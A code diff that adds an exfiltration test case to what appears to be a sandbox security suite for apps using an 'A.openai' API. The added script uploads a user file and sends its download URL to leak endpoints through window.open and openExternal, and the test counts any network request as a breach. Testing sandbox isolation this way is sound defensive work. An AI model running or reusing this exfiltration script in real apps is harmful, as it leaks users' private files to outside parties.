@@ -100,4 +100,17 @@ export const ATTACKS: readonly Attack[] = [
     },
     script: `A.report(new Function('return 1')());`,
   }),
+  attack('as13', 'sends away the contents of a file that the user has given it', {
+    class: 'exfiltration',
+    observe: 'network',
+    breach: ({ network }) => network.length > 0,
+    script: `
+      const file = new File(['USER-FILE'], 'private.txt', { type: 'text/plain' });
+      const { fileId } = await (A.openai.uploadFile?.(file) ?? Promise.resolve({}));
+      const { downloadUrl = 'data:,USER-FILE' } = await (A.openai.getFileDownloadUrl?.({ fileId }) ?? Promise.resolve({}));
+      ${LEAK.replaceAll("('widget-", "('file-")}
+      open(${leak('file-window')} + '?' + encodeURIComponent(downloadUrl));
+      await A.openai.openExternal({ href: ${leak('file-link')} + '?' + encodeURIComponent(downloadUrl) }).catch(A.note);
+      await A.wait(700)`,
+  }),
 ];
